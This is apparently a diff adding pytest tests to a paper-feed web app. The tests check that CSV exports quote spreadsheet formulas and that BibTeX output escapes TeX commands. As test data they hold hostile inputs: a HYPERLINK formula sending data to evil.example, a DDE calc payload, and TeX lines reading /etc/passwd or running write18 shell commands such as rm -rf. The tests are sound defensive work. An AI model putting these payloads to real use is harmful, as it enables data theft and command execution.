@@ -115,7 +115,7 @@ def test_bibtex_escapes_special_characters_of_a_local_paper(site: Site) -> None:
     assert values["author"] == (
         "Jos{\\'e} M{\\\"u}ller and Zo{\\\"e} O'Brien-{\\L}ukasz and Wei Zhang"
     )
-    assert values["doi"] == "10.1000/xyz\\_1"
+    assert values["doi"] == "10.1000/xyz_1"  # verbatim: pybtex and biblatex read it as is
     assert values["eprint"] == "2611.00001"
     assert values["primaryClass"] == "cs.LG"
 
@@ -344,3 +344,128 @@ def test_versions_and_hidden_papers(site: Site, client: TestClient) -> None:
     assert moved.status_code == 301 and moved.headers["location"] == "/papers/0704.0001.bib"
     hidden = site.client.get(f"/papers/{site.ids['hidden']}.md")
     assert hidden.status_code == 404 and "removed by a moderator" in hidden.text
+
+
+# --- hostile metadata: spreadsheet formulas, TeX commands, DOIs, name suffixes ---------------
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+HOSTILE_TITLE = "Reading \\input{/etc/passwd} with $\\alpha \\leq \\beta$ and $\\write18{id}$"
+HOSTILE_DOI = "10.1000/a_b%c#d~e"
+
+
+@pytest.fixture
+def hostile(db, tmp_path):  # type: ignore[no-untyped-def]
+    """Two papers whose metadata attacks spreadsheets and TeX, served on both backends."""
+    from datetime import UTC, datetime
+
+    from paperfeed.papers.records import PaperRecord
+    from paperfeed.papers.store import upsert_papers
+    from paperfeed.web.app import create_app
+    from tests.conftest import make_settings
+
+    day = datetime(2026, 11, 19, 14, 0, tzinfo=UTC)
+    records = [
+        PaperRecord(
+            title=FORMULA_TITLE,
+            abstract="-2+3 is a formula too",
+            authors=["@SUM(1+1)*cmd|' /C calc'!A0", "+Plus Person", "\tTab Person"],
+            arxiv_id="2611.00011",
+            feed_at=day,
+            upvotes=2,
+        ),
+        PaperRecord(
+            title=HOSTILE_TITLE,
+            abstract="\\def\\x{1} \\catcode`\\@=11 \\openin \\include{x} $x^^5cinput$",
+            authors=["Neal J. Evans II", "Ludwig van Beethoven, Jr.", "José Müller"],
+            arxiv_id="2611.00012",
+            doi=HOSTILE_DOI,
+            feed_at=day,
+            upvotes=1,
+        ),
+    ]
+    with db.transaction() as session:
+        upsert_papers(session, records)
+    app = create_app(make_settings(tmp_path, db.url), db)
+    with TestClient(app, follow_redirects=False) as client:
+        yield client
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_quoted(hostile: TestClient) -> None:
+    rows = read_csv(hostile.get("/papers/date/2026-11-19.csv"))
+    first = rows[0]
+    assert first["title"] == "'" + FORMULA_TITLE
+    assert first["abstract"] == "'-2+3 is a formula too"
+    assert first["authors"].startswith("'@SUM(1+1)")
+    assert rows[1]["title"] == HOSTILE_TITLE  # ordinary text is untouched
+    assert first["upvotes"] == "2" and first["url"].startswith("http")
+    # JSON lines are data for programs: kept exactly as stored.
+    records = read_jsonl(hostile.get("/papers/date/2026-11-19.jsonl"))
+    assert records[0]["title"] == FORMULA_TITLE
+    assert records[0]["authors"][0] == "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start: str) -> None:
+    from paperfeed.web.exports import csv_cell
+
+    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
+    assert csv_cell("a=1") == "a=1" and csv_cell(-3) == -3 and csv_cell(None) == ""
+
+
+def test_bibtex_round_trips_doi_url_and_name_parts_through_pybtex(hostile: TestClient) -> None:
+    from pybtex.database import parse_string
+
+    text = hostile.get("/papers/2611.00012.bib").text
+    entry = next(iter(parse_string(text, "bibtex").entries.values()))
+    assert entry.fields["doi"] == HOSTILE_DOI
+    assert entry.fields["url"] == "https://arxiv.org/abs/2611.00012"
+    evans, beethoven, muller = entry.persons["author"]
+    assert (evans.first_names, evans.middle_names, evans.last_names, evans.lineage_names) == (
+        ["Neal"],
+        ["J."],
+        ["Evans"],
+        ["II"],
+    )
+    assert beethoven.prelast_names == ["van"] and beethoven.last_names == ["Beethoven"]
+    assert beethoven.lineage_names == ["Jr."] and beethoven.first_names == ["Ludwig"]
+    assert muller.last_names == ['M{\\"u}ller'] and muller.lineage_names == []
+    assert text.startswith("@misc{evans")  # the key uses the family name, not the suffix
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "\\input{/etc/passwd}",
+        "\\include{x}",
+        "\\write18{rm -rf ~}",
+        "\\immediate\\write18{id}",
+        "\\openin5=/etc/passwd",
+        "\\def\\a{b}",
+        "\\catcode`\\@=11",
+        "\\csname input\\endcsname",
+        "\\usepackage{shellesc}",
+    ],
+)
+@pytest.mark.parametrize("where", ["{}", "${}$", "$x + {}$", "\\textbf{{{}}}"])
+def test_tex_commands_off_the_allow_list_are_escaped(command: str, where: str) -> None:
+    written = bibtex_text(where.format(command))
+    # Every backslash left is an allowed command or one this module wrote to escape.
+    names = re.findall(r"\\([A-Za-z]+)", written)
+    assert set(names) <= {"textbackslash", "textbf", "textasciitilde"}, written
+    assert balanced(written)
+
+
+def test_math_accents_and_fonts_still_pass_through() -> None:
+    kept = "$\\alpha \\leq \\frac{1}{2}$ \\'e \\textbf{x} $\\begin{pmatrix}a&b\\end{pmatrix}$"
+    assert bibtex_text(kept) == kept
+    assert bibtex_text("$x^^5cinput$") == "\\$x\\textasciicircum{}\\textasciicircum{}5cinput\\$"
+    assert bibtex_text("$\\begin{document}$").startswith("\\$\\textbackslash{}begin")
+    assert bibtex_text("$a%b#c$") == "$a\\%b\\#c$"
+
+
+def test_hostile_bibtex_from_the_route_escapes_commands(hostile: TestClient) -> None:
+    values = fields(hostile.get("/papers/2611.00012.bib").text)
+    assert values["title"] == (
+        "Reading \\textbackslash{}input{/etc/passwd} with $\\alpha \\leq \\beta$ and "
+        "\\$\\textbackslash{}write18{id}\\$"
+    )
